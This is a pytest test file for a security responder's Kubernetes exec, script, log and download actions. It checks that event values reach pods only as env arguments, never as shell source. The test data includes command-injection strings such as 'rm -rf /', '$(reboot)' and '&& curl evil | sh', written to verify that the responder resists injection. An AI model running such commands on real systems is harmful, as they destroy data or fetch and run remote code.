"""kubernetes:exec, kubernetes:script, kubernetes:log and kubernetes:download.

Driven through the real engine (`act`) or the real server (`start`), with the real client
talking to the fake API server over HTTP and WebSocket; assertions are on the exec calls,
requests and stored files the fake and the output saw.

Behaviours covered:
- event values never become shell source: with hostile values (`;`, `$(…)`, backticks,
  newlines, quotes, `${…}`) the fake receives exactly `env NAME=<value> <shell> -c
  <command as written>`, the value only as an `env` argument; the argv run by a real local
  shell prints the value back unchanged and runs nothing; only referenced names are
  passed (`${X:-y}` forms, `$NAME`, `${FALCO_TALON_RULE}` alias, dashed names, unknown
  names left to the container); no `env` when nothing is referenced;
- exec (fix of B7): one exec, in the pod's first container or the event's
  `container.name` when it names one of the pod's containers; stdout with ANSI escapes
  stripped; a non-zero exit is a failure carrying stderr and the exit code; a command that
  can't start is a failure with the runtime's message; a handshake that fails without a
  Status body (connection refused) still gives a readable error;
- script (fix of B8): one exec of `[env …] <shell> -s` with the script on stdin, wrapped so
  that commands reading stdin get /dev/null and stdin is ended by the v5 close signal;
  `file` read on Talon's host at run time (its references passed too); a missing or empty
  file is a failure before any exec; the wrapper run by a real shell keeps exit codes;
- log: tailLines (default 20, 0 → 20), one GET per container until one has logs (the
  event's container first), bytes kept exact (no `b'…'` repr), printed in the log line
  without an output, stored by local:file with one, `empty output` when all are empty,
  a failing container skipped, all failing is a failure;
- download: `cat -- <path>` (path substituted by Talon, passed as one argv item), artifact
  bytes exact in the local:file output (also over many WebSocket frames), objects with
  `file`, the event's container only
  when known, else each container until one succeeds; an empty file → `empty output`;
- for each: missing k8s fields (failure notified, no request), API errors 404/403/500 with
  the API's message, a timeout, dry-run sending nothing, and one end-to-end run through
  `python -m talon server`.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from talon.actionners.kubernetes import _stream, execs
from tests.actionners.conftest import Acted, assert_failed, event, no_pod_event, pod, wait_for
from tests.fakes.kube_api import ExecCall, FakeKubeAPI
from tests.support import Launch, Server

Act = Callable[..., Acted]
Handler = Callable[[str, str, str, list[str], bytes], tuple[int, bytes | str, bytes | str]]
POD_PATH = "/api/v1/namespaces/shop/pods/web-1"
HOSTILE = [
    "x; touch /tmp/pwned",
    "$(id)",
    "`reboot`",
    "a\nrm -rf / #",
    "it's \"quoted\" \\ back",
    "${HOME}$PATH",
    "-rf --no-preserve-root /",
    "&& curl evil | sh",
]
HARMLESS = [  # what the real shell gets: an injection would only create a file
    "x; touch pwned1",
    "$(touch pwned2)",
    "`touch pwned3`",
    "a\ntouch pwned4",
    "'; touch pwned5; '",
    '"; touch pwned6; "',
    "${HOME}$(touch pwned7)\\",
]


def rules(actionner: str, parameters: dict[str, Any] | None = None, *,
          folder: Path | None = None) -> str:
    """One rule matching event rule `F` with action `A` (output local:file into `folder`)."""
    out = (f", output: {{target: local:file, parameters: {{destination: '{folder}'}}}}"
           if folder else "")
    return f"""
- rule: R
  match: {{rules: [F]}}
  actions:
    - {{action: A, actionner: {actionner}, parameters: {json.dumps(parameters or {})}{out}}}
"""


def answer(code: int = 0, out: bytes | str = b"", err: bytes | str = b"") -> Handler:
    return lambda ns, pod_name, container, argv, stdin: (code, out, err)


def only_exec(kube_api: FakeKubeAPI) -> ExecCall:
    [call] = kube_api.execs
    return call


def stored(folder: Path) -> bytes:
    [file] = list(folder.iterdir())
    return file.read_bytes()


def run_locally(sandbox: Path) -> Handler:
    """An exec handler that really runs the argv on this machine (env + sh) in `sandbox`."""
    sandbox.mkdir()

    def handler(ns: str, pod_name: str, container: str, argv: list[str],
                stdin: bytes) -> tuple[int, bytes, bytes]:
        done = subprocess.run(argv, input=stdin, capture_output=True, cwd=sandbox,
                              timeout=10, check=False)
        return done.returncode, done.stdout, done.stderr
    return handler


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for the local:file output (tmp_path itself holds the rules)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def serve_into(start: Launch, kube_config: Path, folder: Path, actionner: str,
               parameters: dict[str, Any], **fields: str) -> Server:
    """Run the real server with `actionner` writing to local:file in `folder` (created),
    post one event of the pod shop/web-1 (plus `fields`) and wait for the stored file."""
    folder.mkdir()
    server = start(rules(actionner, parameters, folder=folder), f"kubeconfig: {kube_config}\n")
    assert server.post({"rule": "F", "output": "x", "output_fields": {
        "k8s.pod.name": "web-1", "k8s.ns.name": "shop", **fields}}) == 200
    wait_for(lambda: any(folder.iterdir()))
    return server


def assert_exec_failures(act: Act, kube_api: FakeKubeAPI, action: str,
                         server_error: str) -> None:
    """A forbidden exec, a failing one (500 `server_error`) and a slow one are failures."""
    kube_api.forbid("GET", "/exec$", times=1)
    assert_failed(act(action, event()), 'cannot create resource "pods/exec"')
    kube_api.fail("GET", "/exec$", 500, message=server_error)
    assert_failed(act(action, event()), server_error)
    assert kube_api.execs == []
    kube_api.delay("GET", "/exec$", 3, times=1)
    assert_failed(act(action, event(), action_timeout=0.5), "did not finish within 0.5s")


# --- passing event values as data -------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_exec_passes_hostile_values_only_as_env_arguments(act: Act, kube_api: FakeKubeAPI,
                                                          value: str) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, "ok"))
    command = 'cat "${FD_NAME}"'
    acted = act(rules("kubernetes:exec", {"command": command, "shell": "/bin/bash"}),
                event(**{"fd.name": value}))
    assert acted.done == [("R", "A", "success")]
    call = only_exec(kube_api)
    assert call.argv == ["env", f"FD_NAME={value}", "/bin/bash", "-c", command]
    assert [i for i, arg in enumerate(call.argv) if value in arg] == [1]


@pytest.mark.parametrize("value", HARMLESS)
def test_a_real_shell_treats_the_values_as_data(act: Act, kube_api: FakeKubeAPI,
                                                tmp_path: Path, value: str) -> None:
    kube_api.add(pod())
    kube_api.on_exec(run_locally(tmp_path / "sandbox"))
    acted = act(rules("kubernetes:exec", {"command": 'printf %s "${FD_NAME}"'}),
                event(**{"fd.name": value}))
    assert acted.note("A").output == value
    assert list((tmp_path / "sandbox").iterdir()) == []  # nothing created, nothing run


def test_only_referenced_known_names_are_passed(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    command = ("echo $PRIORITY ${FD_NAME:-none} ${PROC_NAME#*/} ${FALCO_TALON_RULE} "
               "${FALCO-TALON_ACTION} $HOME ${UNKNOWN}")
    act(rules("kubernetes:exec", {"command": command}),
        event(**{"fd.name": "/etc/shadow", "proc.name": "cat", "fd.num": 3}))
    assert only_exec(kube_api).argv == [
        "env", "PRIORITY=Warning", "FD_NAME=/etc/shadow", "PROC_NAME=cat",
        "FALCO_TALON_RULE=R", "FALCO-TALON_ACTION=A", "/bin/sh", "-c", command]


def test_no_env_when_nothing_is_referenced(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    act(rules("kubernetes:exec", {"command": "ps aux"}), event(**{"fd.name": "x"}))
    assert only_exec(kube_api).argv == ["/bin/sh", "-c", "ps aux"]


def test_shell_env_ignores_names_env_would_misread() -> None:
    env = {"A=B": "1", "-I": "2", "OK": "3"}
    assert execs.shell_env(["${A=B} ${-I} $OK"], env) == ["OK=3"]


# --- kubernetes:exec --------------------------------------------------------------------


def test_exec_runs_once_in_the_first_container(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod(containers=("app", "side", "third")))
    kube_api.on_exec(answer(0, b"\x1b[1;31mroot\x1b[0m:x:0:0\n\x1b]0;title\x07done\n"))
    acted = act(rules("kubernetes:exec", {"command": "head -1 /etc/passwd"}), event())
    assert acted.done == [("R", "A", "success")]
    note = acted.note("A")
    assert note.output == "root:x:0:0\ndone\n"
    assert dict(note.objects) == {"pod": "web-1", "namespace": "shop"}
    call = only_exec(kube_api)
    assert (call.namespace, call.pod, call.container, call.tty) == ("shop", "web-1", "app",
                                                                    False)
    assert call.argv == ["/bin/sh", "-c", "head -1 /etc/passwd"]


def test_exec_uses_the_events_container(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.on_exec(answer())
    act(rules("kubernetes:exec", {"command": "id"}), event(**{"container.name": "side"}))
    assert only_exec(kube_api).container == "side"


def test_exec_ignores_a_container_name_the_pod_lacks(act: Act,
                                                     kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.on_exec(answer())
    act(rules("kubernetes:exec", {"command": "id"}),
        event(**{"container.name": "k8s_side_web-1_shop_0"}))
    assert only_exec(kube_api).container == "app"


def test_exec_non_zero_exit_is_a_failure_with_stderr(act: Act,
                                                     kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(2, "partial\n", "cat: /nope: No such file or directory\n"))
    note = assert_failed(act(rules("kubernetes:exec", {"command": "cat /nope"}), event()),
                         "cat: /nope: No such file or directory")
    assert "exited with code 2 in the container 'app'" in note.error
    assert note.output == "partial\n"
    assert dict(note.objects) == {"pod": "web-1", "namespace": "shop"}


def test_exec_of_a_missing_shell_is_a_failure(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())  # no handler: the runtime can't find the executable
    assert_failed(act(rules("kubernetes:exec", {"command": "id", "shell": "/bin/zsh"}),
                      event()), 'exec: "/bin/zsh": executable file not found in $PATH')


def test_exec_without_pod_name_sends_nothing(act: Act, kube_api: FakeKubeAPI) -> None:
    acted = act(rules("kubernetes:exec", {"command": "id"}), no_pod_event())
    assert_failed(acted, "k8s.pod.name")
    assert kube_api.requests == []


def test_exec_missing_pod(act: Act, kube_api: FakeKubeAPI) -> None:
    assert_failed(act(rules("kubernetes:exec", {"command": "id"}), event()),
                  "the pod 'web-1' in the namespace 'shop' doesn't exist")
    assert kube_api.execs == []


@pytest.mark.parametrize(("status", "message"), [
    (403, 'cannot create resource \\"pods/exec\\"'.replace("\\", "")),
    (404, "injected failure 404"),
    (500, "kubelet is unreachable"),
])
def test_exec_api_errors(act: Act, kube_api: FakeKubeAPI, status: int, message: str) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    if status == 403:
        kube_api.forbid("GET", "/exec$")
    else:
        kube_api.fail("GET", "/exec$", status,
                      message=None if status == 404 else message)
    note = assert_failed(act(rules("kubernetes:exec", {"command": "id"}), event()), message)
    assert f"({status})" in note.error
    assert kube_api.execs == []


def test_handshake_errors_without_a_status_body() -> None:
    from kubernetes.client.rest import ApiException

    try:
        try:
            raise ApiException(status=0, reason="[Errno 111] Connection refused")
        except ApiException:
            None.decode()  # type: ignore[attr-defined]  # what the 36.x client does next
    except AttributeError as exc:
        assert _stream.handshake_error(exc) == "[Errno 111] Connection refused"


def test_exec_timeout(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    kube_api.delay("GET", "/exec$", 3)
    acted = act(rules("kubernetes:exec", {"command": "id"}), event(), action_timeout=0.5)
    assert_failed(acted, "did not finish within 0.5s")


def test_exec_dry_run_sends_nothing(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    acted = act(rules("kubernetes:exec", {"command": "id"}), event(), dry_run=True)
    assert acted.done == [("R", "A", "dry_run")]
    assert kube_api.requests == [] and kube_api.execs == []


def test_exec_end_to_end(start: Launch, kube_api: FakeKubeAPI, kube_config: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, "seen\n"))
    server = start(rules("kubernetes:exec", {"command": 'ls -l "${FD_NAME}"'}),
                   f"kubeconfig: {kube_config}\n")
    hostile = "/tmp/$(reboot); rm -rf /"
    assert server.post({"rule": "F", "priority": "Warning", "output": "x",
                        "output_fields": {"k8s.pod.name": "web-1", "k8s.ns.name": "shop",
                                          "fd.name": hostile}}) == 200
    wait_for(lambda: bool(kube_api.execs))
    assert kube_api.execs[0].argv == ["env", f"FD_NAME={hostile}", "/bin/sh", "-c",
                                      'ls -l "${FD_NAME}"']
    server.wait_log(r'"status": ?"success"')


# --- kubernetes:script ------------------------------------------------------------------


SCRIPT = 'ps awxuf\ncat "${FD_NAME}"\n'


def test_script_goes_to_one_shell_on_stdin(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.on_exec(answer(0, "\x1b[32mPID\x1b[0m 1\n"))
    acted = act(rules("kubernetes:script", {"script": SCRIPT, "shell": "/bin/bash"}),
                event(**{"fd.name": "$(id)"}))
    assert acted.done == [("R", "A", "success")]
    assert acted.note("A").output == "PID 1\n"
    call = only_exec(kube_api)  # one exec: no copy step, no `tee … > /dev/null` (B8)
    assert call.container == "app"
    assert call.argv == ["env", "FD_NAME=$(id)", "/bin/bash", "-s"]
    assert call.stdin == b"{\n" + SCRIPT.encode() + b"\n} </dev/null\nexit $?\n"
    assert call.stdin_closed_by == "signal"


def test_script_from_a_file_read_at_run_time(act: Act, kube_api: FakeKubeAPI,
                                             tmp_path: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, "ok"))
    script_file = tmp_path / "collect.sh"
    rules_text = rules("kubernetes:script", {"file": str(script_file)})
    script_file.write_bytes(b"#!/bin/sh\necho $PROC_NAME\n")
    act(rules_text, event(**{"proc.name": "nc -l"}))
    call = only_exec(kube_api)
    assert call.argv == ["env", "PROC_NAME=nc -l", "/bin/sh", "-s"]
    assert call.stdin == b"{\n#!/bin/sh\necho $PROC_NAME\n\n} </dev/null\nexit $?\n"


@pytest.mark.parametrize("content", [None, b"  \n"])
def test_script_file_missing_or_empty_is_a_failure(act: Act, kube_api: FakeKubeAPI,
                                                   tmp_path: Path,
                                                   content: bytes | None) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    script_file = tmp_path / "gone.sh"
    if content is not None:
        script_file.write_bytes(content)
    note = assert_failed(act(rules("kubernetes:script", {"file": str(script_file)}), event()),
                         "No such file or directory" if content is None else "is empty")
    assert str(script_file) in note.error
    assert kube_api.execs == []


def test_script_wrapper_in_a_real_shell(act: Act, kube_api: FakeKubeAPI,
                                        tmp_path: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(run_locally(tmp_path / "sandbox"))
    script = 'cat\necho "got ${FD_NAME}"\necho oops >&2\nexit 3\necho never\n'
    note = assert_failed(act(rules("kubernetes:script", {"script": script}),
                             event(**{"fd.name": "`touch pwned`"})), "oops")
    assert note.output == "got `touch pwned`\n"  # `cat` read /dev/null, not the script
    assert "exited with code 3" in note.error
    assert list((tmp_path / "sandbox").iterdir()) == []


def test_script_non_zero_exit(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(1, "", "netstat: not found\n"))
    assert_failed(act(rules("kubernetes:script", {"script": "netstat -lpauten"}), event()),
                  "netstat: not found")
    assert only_exec(kube_api).argv == ["/bin/sh", "-s"]


def test_script_errors_timeout_dry_run(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer())
    action = rules("kubernetes:script", {"script": "ps"})
    assert_failed(act(action, no_pod_event()), "k8s.pod.name")
    assert kube_api.requests == []
    assert act(action, event(), dry_run=True).done == [("R", "A", "dry_run")]
    assert kube_api.requests == []
    assert_exec_failures(act, kube_api, action, "container runtime is down")


def test_script_end_to_end(start: Launch, kube_api: FakeKubeAPI, kube_config: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, "done\n"))
    server = start(rules("kubernetes:script", {"script": "echo ${FD_NAME}"}),
                   f"kubeconfig: {kube_config}\n")
    assert server.post({"rule": "F", "output": "x",
                        "output_fields": {"k8s.pod.name": "web-1", "k8s.ns.name": "shop",
                                          "fd.name": "a;b"}}) == 200
    wait_for(lambda: bool(kube_api.execs))
    assert kube_api.execs[0].argv == ["env", "FD_NAME=a;b", "/bin/sh", "-s"]
    assert kube_api.execs[0].stdin == b"{\necho ${FD_NAME}\n} </dev/null\nexit $?\n"
    server.wait_log(r'"status": ?"success"')


# --- kubernetes:log ---------------------------------------------------------------------


LOGS = b"".join(b"line %d \xff\xfe\n" % i for i in range(1, 31))


def log_requests(kube_api: FakeKubeAPI) -> list[tuple[str | None, str | None]]:
    return [(r.param("container"), r.param("tailLines"))
            for r in kube_api.requests_for("GET", POD_PATH + "/log")]


def test_log_prints_the_last_20_lines_without_output(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod())
    kube_api.set_pod_logs("shop", "web-1", "app", LOGS)
    acted = act(rules("kubernetes:log"), event())
    assert acted.done == [("R", "A", "success")]
    note = acted.note("A")
    assert note.output == b"".join(LOGS.splitlines(keepends=True)[-20:]).decode(
        "utf-8", "replace")
    assert dict(note.objects) == {"pod": "web-1", "namespace": "shop"}
    assert log_requests(kube_api) == [("app", "20")]


@pytest.mark.parametrize(("tail", "sent"), [(0, "20"), (2, "2"), (500, "500")])
def test_log_tail_lines(act: Act, kube_api: FakeKubeAPI, tail: int, sent: str) -> None:
    kube_api.add(pod())
    kube_api.set_pod_logs("shop", "web-1", "app", LOGS)
    act(rules("kubernetes:log", {"tail_lines": tail}), event())
    assert log_requests(kube_api) == [("app", sent)]


def test_log_stored_by_the_output_exactly(act: Act, kube_api: FakeKubeAPI,
                                          out: Path) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.set_pod_logs("shop", "web-1", "side", b"\x00\xff\xfe raw\n")
    acted = act(rules("kubernetes:log", folder=out), event())
    assert acted.note("A").output == (
        "the logs for the pod 'web-1' in the namespace 'shop' has been downloaded")
    assert acted.note("A", "output").status == "success"
    assert stored(out) == b"\x00\xff\xfe raw\n"
    assert next(out.iterdir()).name.endswith("_shop_web-1_log")
    assert log_requests(kube_api) == [("app", "20"), ("side", "20")]  # first was empty


def test_log_asks_the_events_container_first(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.set_pod_logs("shop", "web-1", "app", b"app\n")
    kube_api.set_pod_logs("shop", "web-1", "side", b"side\n")
    acted = act(rules("kubernetes:log"), event(**{"container.name": "side"}))
    assert acted.note("A").output == "side\n"
    assert log_requests(kube_api) == [("side", "20")]


def test_log_all_empty(act: Act, kube_api: FakeKubeAPI, out: Path) -> None:
    kube_api.add(pod(containers=("app", "side")))
    acted = act(rules("kubernetes:log"), event())
    assert acted.note("A").output == "no logs for the pod 'web-1' in the namespace 'shop'"
    acted = act(rules("kubernetes:log", folder=out), event())
    assert acted.note("A").status == "success"
    assert (acted.note("A", "output").status, acted.note("A", "output").error) == (
        "failure", "empty output")
    assert list(out.iterdir()) == []


def test_log_skips_a_failing_container(act: Act, kube_api: FakeKubeAPI) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.set_pod_logs("shop", "web-1", "side", b"fine\n")
    kube_api.fail("GET", "/log$", 500, message="kubelet timeout")
    acted = act(rules("kubernetes:log"), event())
    assert acted.note("A").output == "fine\n"
    assert log_requests(kube_api) == [("app", "20"), ("side", "20")]


@pytest.mark.parametrize(("status", "message"), [
    (403, 'cannot get resource "pods/log"'),
    (404, "injected failure 404"),
    (500, "kubelet timeout"),
])
def test_log_api_errors(act: Act, kube_api: FakeKubeAPI, status: int, message: str) -> None:
    kube_api.add(pod())
    if status == 403:
        kube_api.forbid("GET", "/log$")
    else:
        kube_api.fail("GET", "/log$", status, message=None if status == 404 else message,
                      times=None)
    note = assert_failed(act(rules("kubernetes:log"), event()), message)
    assert "cannot get the logs of the container 'app'" in note.error


def test_log_missing_fields_missing_pod_timeout_dry_run(act: Act,
                                                        kube_api: FakeKubeAPI) -> None:
    assert_failed(act(rules("kubernetes:log"), no_pod_event()), "k8s.pod.name")
    assert kube_api.requests == []
    assert_failed(act(rules("kubernetes:log"), event()), "doesn't exist")
    kube_api.add(pod())
    assert act(rules("kubernetes:log"), event(), dry_run=True).done == [("R", "A", "dry_run")]
    assert log_requests(kube_api) == []
    kube_api.delay("GET", "/log$", 3)
    assert_failed(act(rules("kubernetes:log"), event(), action_timeout=0.5),
                  "did not finish within 0.5s")


def test_log_end_to_end(start: Launch, kube_api: FakeKubeAPI, kube_config: Path,
                        tmp_path: Path) -> None:
    kube_api.add(pod())
    kube_api.set_pod_logs("shop", "web-1", "app", b"GET /healthz 200\n")
    folder = tmp_path / "out"
    server = serve_into(start, kube_config, folder, "kubernetes:log", {"tail_lines": 5})
    assert stored(folder) == b"GET /healthz 200\n"
    assert log_requests(kube_api) == [("app", "5")]
    server.wait_log("has been copied to")


# --- kubernetes:download ----------------------------------------------------------------


BINARY = bytes(range(256)) * 3 + b"\x00\xff\n"


def test_download_stores_the_exact_bytes(act: Act, kube_api: FakeKubeAPI,
                                         out: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, BINARY))
    acted = act(rules("kubernetes:download", {"file": "${FD_NAME}"}, folder=out),
                event(**{"fd.name": "/usr/bin/miner"}))
    assert acted.done == [("R", "A", "success")]
    note = acted.note("A")
    assert note.output == "the file '/usr/bin/miner' has been downloaded"
    assert dict(note.objects) == {"pod": "web-1", "namespace": "shop",
                                  "file": "/usr/bin/miner"}
    assert only_exec(kube_api).argv == ["cat", "--", "/usr/bin/miner"]
    assert stored(out) == BINARY
    assert next(out.iterdir()).name.endswith("_shop_web-1__usr_bin_miner")


def test_download_of_a_large_binary_over_many_frames(act: Act, kube_api: FakeKubeAPI,
                                                     out: Path) -> None:
    big = hashlib.sha256(b"seed").digest() * 10_000 + b"\x00\xff"  # ~320 KB, 10 frames
    kube_api.on_exec(answer(0, big, b"warning: \xff\xfe not utf-8\n"))
    kube_api.add(pod())
    acted = act(rules("kubernetes:download", {"file": "/big.bin"}, folder=out), event())
    assert acted.done == [("R", "A", "success")]
    assert stored(out) == big


@pytest.mark.parametrize("value", HOSTILE)
def test_download_path_is_one_argument(act: Act, kube_api: FakeKubeAPI, out: Path,
                                       value: str) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, b"data"))
    act(rules("kubernetes:download", {"file": "/data/${FD_NAME}"}, folder=out),
        event(**{"fd.name": value}))
    assert only_exec(kube_api).argv == ["cat", "--", f"/data/{value}"]


def test_download_tries_each_container_until_one_has_the_file(act: Act,
                                                              kube_api: FakeKubeAPI,
                                                              out: Path) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.on_exec(answer(1, b"", b"cat: /x: No such file or directory\n"), container="app")
    kube_api.on_exec(answer(0, b"found"), container="side")
    acted = act(rules("kubernetes:download", {"file": "/x"}, folder=out), event())
    assert acted.done == [("R", "A", "success")]
    assert [c.container for c in kube_api.execs] == ["app", "side"]
    assert stored(out) == b"found"


def test_download_uses_only_the_events_container(act: Act, kube_api: FakeKubeAPI,
                                                 out: Path) -> None:
    kube_api.add(pod(containers=("app", "side")))
    kube_api.on_exec(answer(1, b"", b"cat: /x: No such file or directory\n"))
    note = assert_failed(act(rules("kubernetes:download", {"file": "/x"}, folder=out),
                             event(**{"container.name": "side"})), "No such file")
    assert note.error.startswith("cannot download the file '/x': the command exited with "
                                 "code 1 in the container 'side'")
    assert [c.container for c in kube_api.execs] == ["side"]
    assert dict(note.objects)["file"] == "/x"
    assert list(out.iterdir()) == []


def test_download_of_an_empty_file_is_an_empty_output(act: Act, kube_api: FakeKubeAPI,
                                                      out: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, b""))
    acted = act(rules("kubernetes:download", {"file": "/empty"}, folder=out), event())
    assert acted.note("A").status == "success"
    assert (acted.note("A", "output").status, acted.note("A", "output").error) == (
        "failure", "empty output")
    assert list(out.iterdir()) == []


def test_download_errors_timeout_dry_run(act: Act, kube_api: FakeKubeAPI,
                                         out: Path) -> None:
    action = rules("kubernetes:download", {"file": "/etc/passwd"}, folder=out)
    assert_failed(act(action, no_pod_event()), "k8s.pod.name")
    assert kube_api.requests == []
    assert_failed(act(action, event()), "doesn't exist")
    kube_api.add(pod())
    kube_api.on_exec(answer(0, b"root"))
    assert act(action, event(), dry_run=True).done == [("R", "A", "dry_run")]
    assert_exec_failures(act, kube_api, action, "no route to kubelet")
    assert list(out.iterdir()) == []


def test_download_end_to_end(start: Launch, kube_api: FakeKubeAPI, kube_config: Path,
                             tmp_path: Path) -> None:
    kube_api.add(pod())
    kube_api.on_exec(answer(0, BINARY))
    folder = tmp_path / "files"
    serve_into(start, kube_config, folder, "kubernetes:download", {"file": "${FD_NAME}"},
               **{"fd.name": "/tmp/x;id"})
    assert kube_api.execs[0].argv == ["cat", "--", "/tmp/x;id"]
    assert stored(folder) == BINARY
